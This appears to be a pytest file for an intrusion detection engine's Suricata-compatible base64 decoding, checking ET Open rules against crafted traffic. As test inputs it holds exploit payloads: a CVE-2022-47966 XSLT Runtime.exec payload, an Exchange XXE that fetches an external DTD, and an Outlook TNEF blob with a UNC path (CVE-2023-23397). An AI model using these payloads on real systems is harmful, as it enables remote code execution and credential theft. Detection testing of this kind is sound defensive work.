"""base64_decode / base64_data (Suricata 7): the decoder, the parser, matching, and ET Open rules end to end."""
from __future__ import annotations

import base64
import pickle
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.ids.base64dec import decode_rfc4648
from gateway.ids.match import compile_list, match_generic, match_list
from gateway.ids.model import Base64Decode, RuleError
from gateway.ids.rules import load_rules, parse_rule

from .conftest import tcp_conversation
from .test_ids_engine import _hs_cache, alerts, inspector, run  # noqa: F401 - _hs_cache: a per-test cache

# ------------------------------------------------------------------------------------------ the decoder


@pytest.mark.parametrize("data, want", [
    # Suricata's util-base64.c test vectors for RFC 4648 mode
    (b"", b""), (b"Zg==", b"f"), (b"Zm8=", b"fo"), (b"Zm9v", b"foo"), (b"Zm9vYg==", b"foob"),
    (b"Zm9vYmE=", b"fooba"), (b"Zm9vYmFy", b"foobar"),
    (b"Zm 9v Ym Fy", b"f"),                 # whitespace is not skipped: decoding ends there
    (b"Zm$9vYm.Fy", b"f"),
    (b"Y21Wd2IzSjBaVzFoYVd4bWNtRjFaRUJoZEc4dVoyOTJMbUYxOmpqcHh4b3Rhb2w%3D",
     b"cmVwb3J0ZW1haWxmcmF1ZEBhdG8uZ292LmF1:jjpxxotaol"),
    # padding counts where it stands and decoding goes on after it
    (b"Zg==Zm9v", b"ffoo"), (b"====", b""), (b"A===", b""), (b"Zm=v", b"f`"),
    # a last partial block: n - 1 bytes when the input ends, at least one when an invalid character ends it
    (b"Z", b""), (b"Zm", b"f"), (b"Zm9", b"fo"), (b"Z$", b"d"), (b"Zm$", b"f"), (b"Zm9\n", b"fo"),
    (b"Zg=", b"f\x00"),
    (b"SGVsbG8gV29ybGQ=\r\nSGVsbG8=", b"Hello World"),     # a line break ends it (RFC 2045 would go on)
])
def test_decoder_vectors(data, want):
    assert decode_rfc4648(data) == want


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200))
def test_decoder_agrees_with_the_standard_on_clean_input(raw):
    enc = base64.b64encode(raw)
    assert decode_rfc4648(enc) == raw
    assert decode_rfc4648(enc + b"\r\n..." + enc) == raw          # stops at the first invalid character
    assert decode_rfc4648(enc.rstrip(b"=")) == raw                # missing padding is fine


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=64))
def test_decoder_never_raises_and_never_grows(data):
    out = decode_rfc4648(data)
    assert len(out) <= max(len(data) * 3 // 4, 1)


# ------------------------------------------------------------------------------------------ parsing

def _rule(opts: str, proto: str = "tcp"):
    return parse_rule(f'alert {proto} any any -> any any (msg:"t"; {opts} sid:1;)')


def _decode_of(rule) -> Base64Decode:
    (m,) = [m for ml in rule.buffers for m in ml.matches if type(m) is Base64Decode]
    return m


@pytest.mark.parametrize("value, want", [
    (None, (65535, 0, False)),
    ("bytes 10", (10, 0, False)),
    ("offset 9", (65535, 9, False)),
    ("relative", (65535, 0, True)),
    ("bytes 1, offset 2", (1, 2, False)),
    ("bytes 1, offset 2, relative", (1, 2, True)),
    ("offset 2, relative", (65535, 2, True)),
    ("bytes 300, offset 0, relative", (300, 0, True)),
    ("offset 0,relative", (65535, 0, True)),            # ET Open's spelling
    (" bytes 5 offset 3 relative ", (5, 3, True)),       # commas are optional in Suricata's grammar
    ("bytes 0", (65535, 0, False)),                      # 0 is Suricata's default, the 64 KiB maximum
    ("bytes 65535", (65535, 0, False)),
])
def test_base64_decode_options(value, want):
    kw = "base64_decode" if value is None else f"base64_decode:{value}"
    m = _decode_of(_rule(f'content:"x"; {kw}; base64_data; content:"y";'))
    assert (m.nbytes, m.offset, m.relative) == want


@pytest.mark.parametrize("opts, why", [
    ('base64_data; content:"y";', "base64_data: needs a base64_decode before it"),
    ('content:"x"; base64_decode;', "base64_decode without base64_data never matches"),
    ('content:"x"; base64_decode; base64_data;', "sticky buffer base64_data has no match after it"),
    ('content:"x"; base64_decode; content:"z"; base64_data; content:"y";',
     "base64_decode must be the last keyword of its buffer"),
    ('base64_decode; base64_data; content:"y"; base64_decode;', "base64_decode: only one per rule"),
    ('base64_decode:bytes 1, offset 2, relatve; base64_data; content:"y";', "unknown option 'relatve'"),
    ('base64_decode:byts 1; base64_data; content:"y";', r"expected \[bytes N\]\[, offset N\]\[, relative\]"),
    ('base64_decode:offset 2, bytes 1; base64_data; content:"y";', "expected"),    # Suricata's order only
    ('base64_decode:relative, offset 2; base64_data; content:"y";', "expected"),   # Suricata would drop offset
    ('base64_decode:bytes 10 , offset 2; base64_data; content:"y";', "expected"),  # ... and here too
    ('base64_decode:; base64_data; content:"y";', "expected"),
    ('base64_decode:bytes 65536; base64_data; content:"y";', "base64_decode bytes: 65536 outside 0..65535"),
    ('base64_decode:bytes -1; base64_data; content:"y";', "expected"),
    ('base64_decode; base64_data:x; content:"y";', "base64_data: takes no value"),
    ('base64_decode; base64_data; base64_data; content:"y";', "sticky buffer base64_data has no match"),
    ('content:"x"; base64_decode; base64_data; content:"y"; fast_pattern;',
     r"fast_pattern: not possible in base64_data \(decoded data is not prefiltered\)"),
    ('content:"x"; base64_decode; base64_data; nocase; content:"y";', "nocase: needs a preceding content"),
    ('content:"x"; base64_decode; base64_data; content:"y"; pkt_data; content:"z";',
     "pkt_data: no other buffer can follow base64_data"),
    ('content:"x"; base64_decode; base64_data; content:"y"; rawbytes;', "rawbytes: only valid on payload"),
    ('content:"x"; base64_decode; base64_data; to_lowercase; content:"y";',
     "to_lowercase: transforms cannot apply to base64_data"),
])
def test_base64_parse_errors(opts, why):
    with pytest.raises(RuleError, match=why):
        _rule(opts)


@pytest.mark.parametrize("opts, why", [
    ('base64_decode; base64_data; content:"y"; http.uri; content:"z";', "http.uri: no other buffer can follow"),
    ('base64_decode; base64_data; content:"y"; http_uri;', "content modifier cannot be used inside a sticky"),
    ('base64_decode; base64_data; pcre:"/y/U";', "pcre: buffer modifier differs from the sticky buffer"),
    ('base64_decode; base64_data; uricontent:"y";', "uricontent: cannot follow a sticky buffer"),
])
def test_base64_data_is_the_last_buffer(opts, why):
    with pytest.raises(RuleError, match=why):
        _rule(opts, "http")


def test_base64_rejections_name_file_line_and_reason(tmp_path):
    f = tmp_path / "b64.rules"
    f.write_text('alert tcp any any -> any any (msg:"ok"; base64_decode; base64_data; content:"y"; sid:1;)\n'
                 '\n'
                 'alert tcp any any -> any any (msg:"no decode"; base64_data; content:"y"; sid:2;)\n'
                 'alert tcp any any -> any any (msg:"no data"; content:"x"; base64_decode; sid:3;)\n')
    rs = load_rules([f])
    assert [r.sid for r in rs.rules] == [1]
    assert [(Path(r.file).name, r.line, r.sid, r.reason) for r in rs.rejected] == [
        ("b64.rules", 3, 2, "base64_data: needs a base64_decode before it"),
        ("b64.rules", 4, 3, "base64_decode without base64_data never matches (Suricata needs both)")]


def test_base64_decode_goes_to_the_buffer_in_force_and_base64_data_is_never_the_fast_pattern():
    r = _rule('http.request_body; content:"SAMLResponse="; startswith; base64_decode:offset 0, relative; '
              'base64_data; content:"a_longer_decoded_pattern"; content:"x";', "http")
    (ml,) = r.buffers                   # base64_data is not an inspection buffer of its own
    assert ml.buffer == "http.request_body" and type(ml.matches[-1]) is Base64Decode
    assert [m.pattern for m in ml.matches[-1].data.matches] == [b"a_longer_decoded_pattern", b"x"]
    assert r.fast_pattern.pattern == b"SAMLResponse=" and r.fast_pattern.buffer == "http.request_body"
    assert not any(m.fast_pattern for m in ml.matches[-1].data.matches)
    # without a sticky buffer: the buffer of the keyword before it (a legacy modifier's), else the payload
    r = _rule('content:"/x"; http_uri; base64_decode:relative; base64_data; content:"y";', "http")
    assert [(ml.buffer, [type(m).__name__ for m in ml.matches]) for ml in r.buffers] == \
        [("http.uri", ["ContentMatch", "Base64Decode"])]
    r = _rule('base64_decode; base64_data; content:"y";')
    assert r.buffers[0].buffer == "pkt_data" and r.fast_pattern is None     # evaluated on every payload
    # a relative byte_* or isdataat in base64_data stays there (not in the buffer of the match before it)
    r = _rule('content:"x"; base64_decode; base64_data; content:"y"; isdataat:1,relative;')
    assert [type(m).__name__ for m in _decode_of(r).data.matches] == ["ContentMatch", "IsDataAt"]


def test_a_base64_rule_pickles_and_compares():
    r = _rule('content:"k="; base64_decode:bytes 20, relative; base64_data; content:"foo"; nocase;')
    ml = r.buffers[0]
    assert match_list(ml, b"k=Rk9P")
    back = pickle.loads(pickle.dumps(ml))
    assert back == ml and back.compiled is None and match_list(back, b"k=Rk9P")
    assert back != _rule('content:"k="; base64_decode:bytes 20, relative; base64_data; content:"fo";').buffers[0]


# ------------------------------------------------------------------------------------------ matching

def _matches(opts: str, buf: bytes) -> bool:
    ml = _rule(opts).buffers[0]
    got = match_list(ml, buf)
    assert got is match_generic(ml, buf)
    return got


def b64(s: bytes) -> bytes:
    return base64.b64encode(s)


def test_offset_and_bytes():
    hello = b64(b"Hello World")                                   # SGVsbG8gV29ybGQ=
    assert _matches('base64_decode; base64_data; content:"Hello World";', hello)
    assert _matches('base64_decode:offset 8; base64_data; content:"Hello World";', b"aaaaaaaa" + hello)
    assert not _matches('base64_decode; base64_data; content:"Hello World";', b"--------" + hello)
    # "aaaaaaaa" is base64 too: without the offset it decodes to 6 bytes, then "Hello World"
    assert _matches('base64_decode; base64_data; content:"Hello World"; offset:6;', b"aaaaaaaa" + hello)
    # offset at or past the end: nothing to decode
    assert not _matches('base64_decode:bytes 16, offset 32; base64_data; content:!"x";', hello)
    assert not _matches('base64_decode:offset 16; base64_data; content:!"x";', hello)
    # bytes counts input characters: 8 of them are "Hello "; 6 are "Hel" and a partial block's "l"
    assert _matches('base64_decode:bytes 8; base64_data; content:"Hello "; endswith;', hello)
    assert not _matches('base64_decode:bytes 8; base64_data; content:"World";', hello)
    assert _matches('base64_decode:bytes 6; base64_data; content:"Hell"; endswith;', hello)


def test_relative():
    hello = b64(b"Hello World")
    assert _matches('content:"aaaaaaaa"; base64_decode:relative; base64_data; content:"Hello";',
                    b"aaaaaaaa" + hello)
    assert not _matches('content:"aaaaaaaa"; base64_decode:relative; base64_data; content:"Hello";',
                        hello + b"aaaaaaaa")
    # offset counts from the cursor
    assert _matches('content:"k="; base64_decode:offset 2, relative; base64_data; content:"Hello";',
                    b"xk=--" + hello)
    assert not _matches('content:"k="; base64_decode:offset 3, relative; base64_data; content:"Hello";',
                        b"xk=--" + hello)
    # the cursor at the end of the buffer: nothing to decode
    assert not _matches('content:"k="; base64_decode:relative; base64_data; content:!"x";', hello + b"k=")


def test_decoded_content_with_offset_depth_distance_within():
    data = b64(b"Hello World!")
    ok = 'base64_decode; base64_data; content:"World"; offset:6; depth:5; content:"!"; distance:0; within:1;'
    assert _matches(ok, data)
    assert not _matches(ok.replace("offset:6", "offset:7"), data)
    assert not _matches(ok.replace("depth:5", "depth:6").replace("offset:6", "offset:7"), data)
    assert _matches('base64_decode; base64_data; content:"Hello"; startswith; content:"d"; distance:4;', data)
    assert not _matches('base64_decode; base64_data; content:"Hello"; startswith; content:"d"; within:5;', data)
    assert _matches('base64_decode; base64_data; content:"Hello"; pcre:"/^ w/Ri"; isdataat:!7,relative;', data)
    assert not _matches('base64_decode; base64_data; content:"World"; startswith;', data)
    # the decoded data is inspected as it is: \0 and high bytes included
    assert _matches('base64_decode; base64_data; content:"|78 9f 3e 22|"; startswith; byte_test:1,=,0,0,relative;',
                    b64(b"\x78\x9f\x3e\x22\x00rest"))


def test_nothing_decoded_is_no_match():
    # even a base64_data that holds on any data (a negated content) needs decoded bytes
    neg = 'base64_decode; base64_data; content:!"evil";'
    assert _matches(neg, b"Zm9v")
    assert not _matches(neg, b"%Zm9v")           # RFC 4648 mode: the first character ends the decoding
    assert not _matches(neg, b"")
    assert not _matches(neg, b"Z")               # one character gives no byte


def test_base64_lists_run_on_the_interpreter():
    ml = _rule('content:"x"; base64_decode:relative; base64_data; content:"y";').buffers[0]
    assert compile_list(ml.matches).__name__ == "generic"
    assert compile_list(ml.matches[-1].data.matches).__name__ == "compiled"   # not used: shown for contrast


def test_suricata_does_not_reset_the_cursor_for_base64_data():
    # Suricata runs the base64_data list with the encoded buffer's cursor (det_ctx->buffer_offset) in force:
    # a relative keyword that comes first there is anchored at that position of the decoded bytes
    buf = b"xx" + b64(b"abc")                    # cursor 2 after "xx"; decoded "abc"
    assert _matches('content:"xx"; base64_decode:relative; base64_data; content:"c"; distance:0;', buf)
    assert not _matches('content:"xx"; base64_decode:relative; base64_data; content:"a"; distance:0;', buf)
    assert _matches('content:"xx"; base64_decode:relative; base64_data; content:"a";', buf)


def test_retry_as_suricata():
    # a content right before base64_decode gives up when decoding fails (base64_decode does not set
    # DETECT_CONTENT_RELATIVE_NEXT), even though a later occurrence would decode
    buf = b"A!!AZm9v"
    assert not _matches('content:"A"; base64_decode:relative; base64_data; content:"foo";', buf)
    assert not _matches('content:"-"; content:"A"; distance:0; base64_decode:relative; base64_data; '
                        'content:"foo";', b"-" + buf)
    # a relative keyword in between makes the content retry at its next occurrence, as there
    assert _matches('content:"A"; isdataat:1,relative; base64_decode:relative; base64_data; content:"foo";', buf)
    # in the decoded data, a relative keyword failing lets the content retry; an absolute content missing
    # stops everything (discontinue), though the next occurrence would decode to what it wants
    buf2 = b":" + b64(b"fooX") + b"!:" + b64(b"foo!")
    retry = 'content:":"; isdataat:1,relative; base64_decode:relative; base64_data; content:"foo"; '
    assert _matches(retry + 'content:"!"; distance:0;', buf2)
    assert not _matches(retry + 'content:"!";', buf2)


def test_byte_extract_variables_reach_base64_data():
    opts = 'byte_extract:1,0,n,string,dec; base64_decode:offset 1; base64_data; content:"foo"; offset:n;'
    assert _matches(opts, b"1" + b64(b"foofoo"))
    assert not _matches(opts, b"4" + b64(b"foofoo"))


# CVE-2023-23397: a TNEF attachment (magic 78 9f 3e 22) of class IPM.Task whose reminder sound is a UNC path
ET_SMTP_RULE = (
    'alert smtp any any -> [$HOME_NET,$SMTP_SERVERS] any (msg:"ET EXPLOIT Possible Microsoft Outlook '
    'Elevation of Privilege Payload Observed M3 (CVE-2023-23397)"; content:"AElQTS5UYXNr"; fast_pattern; '
    'content:"|0d 0a 0d 0a|"; base64_decode:offset 0,relative; base64_data; content:"|78 9f 3e 22|"; '
    'startswith; content:"|00|IPM.Task"; content:"|5c|"; pcre:"/^\\x00?\\\\\\x00?[\\w\\.\\-\\x00]+\\\\/R"; '
    'reference:url,msrc.microsoft.com/update-guide/vulnerability/CVE-2023-23397; '
    'reference:cve,2023-23397; classtype:attempted-admin; sid:2044682; rev:3; metadata:created_at '
    '2023_03_16, cve CVE_2023_23397, former_category EXPLOIT, signature_severity Major, updated_at '
    '2023_04_27, reviewed_at 2023_10_11, former_sid 2853728;)')


def _smtp_session(cport: int, body: bytes) -> list[bytes]:
    client, server = "198.18.0.10", "10.10.0.25"
    talk = [(b"220 mx ESMTP\r\n", False), (b"EHLO a\r\n", True), (b"250 mx\r\n", False),
            (b"MAIL FROM:<a@b.example>\r\n", True), (b"250 ok\r\n", False), (b"RCPT TO:<c@d.example>\r\n", True),
            (b"250 ok\r\n", False), (b"DATA\r\n", True), (b"354 go\r\n", False),
            (b"Subject: x\r\nContent-Type: application/ms-tnef\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
             body + b"\r\n.\r\n", True), (b"250 ok\r\n", False)]
    return tcp_conversation(talk, client, server, cport, 25)


def test_et_outlook_tnef_rule_fires_on_smtp_payload(tmp_path):
    # "\x00IPM.Task" at a multiple of 3 bytes, so that its base64 is the rule's fast pattern AElQTS5UYXNr
    tnef = b"\x78\x9f\x3e\x22\x00\x00" + b"\x00IPM.Task" + b"\x00\x00\x00" + b"\\\\198.18.0.10\\x\\y"
    assert b"AElQTS5UYXNr" in b64(tnef)
    insp, events, _ = inspector(tmp_path, ET_SMTP_RULE + "\n")
    run(insp, _smtp_session(43001, b64(tnef)) +
        # near misses: not TNEF (the magic is the decoded data's first bytes); no UNC path after the class
        _smtp_session(43002, b64(b"\x78\x9f\x3e\x23" + tnef[4:])) +
        _smtp_session(43003, b64(tnef.replace(b"\\\\", b"//"))))
    assert sorted((a["alert"]["signature_id"], a["src_port"]) for a in alerts(events)) == [(2044682, 43001)]


def test_the_et_open_base64_rules_keep_the_model_invariants():
    from .test_rules_loader import check_invariants
    for text in [*ET_RULES.values(), ET_SMTP_RULE]:
        check_invariants(parse_rule(text))


# ------------------------------------------------------------------------------------------ ET Open, end to end
# Emerging Threats Open rules (BSD licence, tests/data/rules/et-open-sample/LICENSE), copied as published in
# the April 2024 set; crafted traffic through the real Inspector and stages.

ET_RULES = {
    2045301: (
        'alert http any any -> [$HOME_NET,$HTTP_SERVERS] any (msg:"ET EXPLOIT ManageEngine Unauthenticated RCE '
        'Attempt M10 (CVE-2022-47966)"; flow:established,to_server; http.method; content:"POST"; '
        'http.request_body; content:"SAMLResponse="; startswith; fast_pattern; nocase; base64_decode:offset 0, '
        'relative; base64_data; content:"|3a|getRuntime|28 29|"; nocase; content:"|3a|exec|28|"; nocase; '
        'reference:cve,2022-47966; classtype:attempted-admin; sid:2045301; rev:1; metadata:attack_target Server, '
        'created_at 2023_05_02, cve CVE_2022_47966, deployment Perimeter, deployment Internal, deployment '
        'SSLDecrypt, former_category EXPLOIT, performance_impact Low, confidence High, signature_severity Major, '
        'tag ManageEngine, updated_at 2023_05_02; target:dest_ip;)'),
    2031507: (
        'alert http any any -> any any (msg:"ET EXPLOIT Microsoft Exchange Server Exploitation (CVE-2020-17141)"; '
        'flow:to_server,established; http.method; content:"POST"; http.uri; content:"/ews/Exchange.asmx"; '
        'startswith; http.request_body; content:"<m:RouteComplaint|20|"; content:"<m:Data>"; distance:0; '
        'base64_decode:bytes 300, offset 0, relative; base64_data; content:"<!DOCTYPE"; content:"SYSTEM"; '
        'distance:0; classtype:web-application-attack; sid:2031507; rev:1; metadata:attack_target Server, '
        'created_at 2021_01_08, cve CVE_2020_17141, deployment Perimeter, deployment Internal, former_category '
        'EXPLOIT, signature_severity Major, updated_at 2023_04_19;)'),
}

ATTACKER, SERVER = "198.18.0.10", "10.10.0.20"       # inbound: the server is in $HOME_NET


def _exchange(cport: int, request: bytes) -> list[bytes]:
    """One HTTP request and its answer on a fresh connection from the attacker to the server's port 80."""
    response = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
    return tcp_conversation([(request, True), (response, False)], ATTACKER, SERVER, cport, 80)


def _post(uri: bytes, body: bytes) -> bytes:
    return (b"POST " + uri + b" HTTP/1.1\r\nHost: srv\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            b"Content-Length: %d\r\n\r\n" % len(body)) + body


def _fired(tmp_path, flows: dict[int, bytes]) -> list[tuple[int, int]]:
    insp, events, _ = inspector(tmp_path, "\n".join(ET_RULES.values()) + "\n")
    pkts = [p for cport, request in flows.items() for p in _exchange(cport, request)]
    run(insp, pkts)
    return sorted((a["alert"]["signature_id"], a["src_port"]) for a in alerts(events))


def test_et_manageengine_saml_rce_fires_on_the_decoded_payload_only(tmp_path):
    # the XSLT of CVE-2022-47966 exploits: Runtime.exec through Xalan's Java extension, base64 in SAMLResponse
    lead = b"<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_a1\"><ds:Transforms>"
    xslt = (b"<xsl:stylesheet xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\">"
            b"<xsl:variable name=\"x\" select=\"rt:exec(rt:getRuntime(),'id')\"/></xsl:stylesheet>")
    evil = lead + xslt + b"</ds:Transforms></samlp:Response>"
    assert len(lead) > 76 * 3 // 4          # the exploit starts after the first 76 base64 characters
    enc = b64(evil)
    flows = {
        41001: _post(b"/SamlResponseServlet", b"SAMLResponse=" + enc),
        # near misses: a benign SAML response; the exploit as plain text (nothing decodes); the base64
        # wrapped at 76 characters as MIME does (RFC 4648 mode stops at the line break, before the exploit);
        # the decoded data has getRuntime() but no exec(
        41002: _post(b"/SamlResponseServlet", b"SAMLResponse=" + b64(lead + b"</ds:Transforms></samlp:Response>")),
        41003: _post(b"/SamlResponseServlet", b"SAMLResponse=" + evil),
        41004: _post(b"/SamlResponseServlet", b"SAMLResponse=" + enc[:76] + b"\r\n" + enc[76:]),
        41005: _post(b"/SamlResponseServlet", b"SAMLResponse=" + b64(evil.replace(b"rt:exec(", b"rt:exe("))),
    }
    assert _fired(tmp_path, flows) == [(2045301, 41001)]


def test_et_exchange_routecomplaint_xxe_decodes_at_most_300_bytes(tmp_path):
    def body(xml: bytes, pad: int = 0) -> bytes:
        return (b"<soap:Envelope><soap:Body><m:RouteComplaint xmlns:m=\"x\"><m:Data>" + b64(b" " * pad + xml) +
                b"</m:Data></m:RouteComplaint></soap:Body></soap:Envelope>")
    xxe = b"<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://198.18.0.10/x.dtd\"><r/>"
    flows = {
        42001: _post(b"/ews/Exchange.asmx", body(xxe)),
        # near misses: the DOCTYPE past the 300 encoded bytes decoded (225 bytes); another URI; no SYSTEM
        42002: _post(b"/ews/Exchange.asmx", body(xxe, pad=240)),
        42003: _post(b"/owa/Exchange.asmx", body(xxe)),
        42004: _post(b"/ews/Exchange.asmx", body(xxe.replace(b"SYSTEM", b"PUBLIC"))),
    }
    assert _fired(tmp_path, flows) == [(2031507, 42001)]
    # 200 characters of padding still fit: the bytes limit is what stopped it above
    assert _fired(tmp_path, {42005: _post(b"/ews/Exchange.asmx", body(xxe, pad=150))}) == [(2031507, 42005)]


def test_et_rules_with_base64_load_from_a_rule_file(tmp_path):
    f = tmp_path / "et.rules"
    f.write_text("\n".join(ET_RULES.values()) + "\n")
    rs = load_rules([f])
    assert sorted(r.sid for r in rs.rules) == sorted(ET_RULES) and not rs.rejected
